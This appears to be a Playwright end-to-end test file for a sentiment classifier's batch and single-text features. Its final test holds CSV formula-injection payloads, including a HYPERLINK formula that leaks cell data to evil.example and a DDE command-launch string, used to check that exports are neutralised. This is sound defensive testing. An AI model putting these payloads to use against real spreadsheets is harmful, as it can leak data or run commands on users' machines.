"""Classify tab in a real browser: one text with its word highlights, a batch upload, and refused uploads."""
from __future__ import annotations

import csv
import io
import os
import re

import pytest
from playwright.sync_api import expect

from tests.api.site_checks import assert_healthy

pytestmark = pytest.mark.e2e

BATCH = [
    "The staff were friendly and my bag arrived before I did. Great trip!",
    "Two hours on hold and the refund still hasn't come through. Never again.",
    "The flight to Denver leaves at 6:40 tomorrow morning.",
    "I love this airline, thank you so much!",
    "Worst customer service ever, my luggage is lost.",
]


def open_batch(visit):
    page = visit.open("?tab=classify")
    expect(page.get_by_role("tab", name="Classify 情感分类", selected=True)).to_be_visible()
    page.get_by_role("button", name=re.compile("Batch mode 批量")).click()
    return page


def upload(page, path):
    page.locator("input[type=file]").first.set_input_files(str(path))


def test_classify_one_text_shows_label_and_word_highlights(visit):
    page = visit.open()
    visit.tab("Classify 情感分类")
    page.get_by_label("Text (English)").fill("I absolutely love this, thank you so much! Best trip ever.")
    page.get_by_role("button", name="Classify", exact=True).click()
    expect(page.get_by_test_id("label-output-value")).to_have_text("positive")
    expect(page.get_by_text(re.compile(r"^Colour = how much the predicted class"))).to_be_visible()
    highlights = page.get_by_test_id("highlighted-text")
    expect(highlights).to_contain_text("love")
    visit.screenshot("single")


def test_classify_batch_upload_gives_a_table_and_a_csv(visit, tmp_path):
    page = open_batch(visit)
    csv_file = tmp_path / "reviews.csv"
    csv_file.write_text("id,text\n" + "\n".join(f'{i},"{t}"' for i, t in enumerate(BATCH)), encoding="utf-8")
    upload(page, csv_file)
    page.get_by_role("button", name="Classify batch").click()
    expect(page.get_by_text(re.compile(r"^5 texts: \d+ negative, \d+ neutral, \d+ positive$"))).to_be_visible()
    table = page.get_by_role("grid").filter(has_text="p_negative").first
    expect(table).to_contain_text("Worst customer service")
    cells = table.get_by_role("button").all_inner_texts()  # body cells, row by row: text, label, p_...
    label_of = {cells[i]: cells[i + 1] for i in range(len(cells) - 1) if cells[i] in BATCH}
    assert len(label_of) == 5, cells
    assert label_of["Worst customer service ever, my luggage is lost."] == "negative"
    assert label_of["I love this airline, thank you so much!"] == "positive"
    download = page.locator("a[download='sentiment.csv']")  # the results, to download
    expect(download).to_be_visible()
    csv_text = page.request.get(download.get_attribute("href")).body().decode("utf-8-sig")
    assert csv_text.splitlines()[0] == "text,label,p_negative,p_neutral,p_positive" and len(csv_text.splitlines()) == 6
    visit.screenshot("batch", full_page=True)


@pytest.mark.parametrize("kind, expected", [
    ("binary", "looks like a binary file"),
    ("too-many-rows", "more than 10,000 rows"),
    ("not-utf8", "is not UTF-8 text"),
    ("no-text-column", "has no 'text' column"),
])
def test_classify_batch_refuses_bad_files_with_a_clear_message(visit, site_url, tmp_path, kind, expected):
    page = open_batch(visit)
    path = tmp_path / "upload.csv"
    if kind == "binary":
        path.write_bytes(b"PK\x03\x04\x00\x00" + os.urandom(4096))  # what an .xlsx renamed to .csv looks like
    elif kind == "too-many-rows":
        path.write_text("text\n" + "\n".join(f"review number {i}" for i in range(10_001)))
    elif kind == "not-utf8":
        path.write_bytes("text\nun café très agréable\n".encode("latin-1"))
    else:
        path.write_text("review,stars\ngreat,5\n")
    upload(page, path)
    page.get_by_role("button", name="Classify batch").click()
    visit.error_toast(expected)
    visit.screenshot(kind)
    assert_healthy(site_url)


def test_classify_batch_refuses_an_upload_over_5_mb(visit, site_url, tmp_path):
    page = open_batch(visit)
    path = tmp_path / "big.csv"
    path.write_text("text\n" + ("this is a long review line\n" * 240_000))  # ~6.5 MB
    upload(page, path)
    visit.error_toast("maximum allowed size")
    visit.screenshot("too-big")
    assert_healthy(site_url)


def _download_csv(page, name_prefix: str) -> list[list[str]]:
    """The file behind a download link, fetched as the browser would, parsed as a spreadsheet would."""
    link = page.locator(f"a[download^='{name_prefix}']").first
    expect(link).to_be_visible()
    body = page.request.get(link.get_attribute("href")).body()
    assert body.startswith(b"\xef\xbb\xbf"), "no UTF-8 BOM: spreadsheets would garble non-ASCII text"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_the_batch_csv_matches_classifying_each_text_alone(visit, site_url, tmp_path):
    from gradio_client import Client

    page = open_batch(visit)
    page.get_by_label("...or paste one text per line").fill("\n".join(BATCH))
    page.get_by_role("button", name="Classify batch").click()
    expect(page.get_by_text(re.compile(r"^5 texts: "))).to_be_visible()
    rows = _download_csv(page, "sentiment")
    assert rows[0] == ["text", "label", "p_negative", "p_neutral", "p_positive"] and len(rows) == 6
    client = Client(site_url, verbose=False, download_files=False)
    try:
        for text, label, *probs in rows[1:]:
            alone = client.predict(text, api_name="/classify")
            confidences = {c["label"]: c["confidence"] for c in alone["confidences"]}
            assert label == alone["label"], text
            for name, p in zip(("negative", "neutral", "positive"), probs):
                assert abs(float(p) - confidences[name]) < 2e-4, (text, name, p, confidences[name])
    finally:
        client.close()
    # and the page's own single-text answer agrees with the file for one of them
    page.get_by_label("Text (English)").fill(rows[4][0])
    page.get_by_role("button", name="Classify", exact=True).click()
    expect(page.get_by_test_id("label-output-value")).to_have_text(rows[4][1])


def test_formulas_typed_into_a_batch_cannot_run_in_the_downloaded_csv(visit):
    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+1+cmd|' /C calc'!A0",
               "-2+3 worst flight ever", "@SUM(1+1)*cmd great service"]
    page = open_batch(visit)
    page.get_by_label("...or paste one text per line").fill("\n".join(hostile))
    page.get_by_role("button", name="Classify batch").click()
    expect(page.get_by_text(re.compile(r"^4 texts: "))).to_be_visible()
    table = page.get_by_role("grid").filter(has_text="p_negative").first
    expect(table).to_contain_text('=HYPERLINK("http://evil.example/?leak="&A1,"click me")')  # the page shows it as typed
    rows = _download_csv(page, "sentiment")
    assert [row[0] for row in rows[1:]] == ["'" + text for text in hostile]
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
    visit.screenshot("hostile-batch")
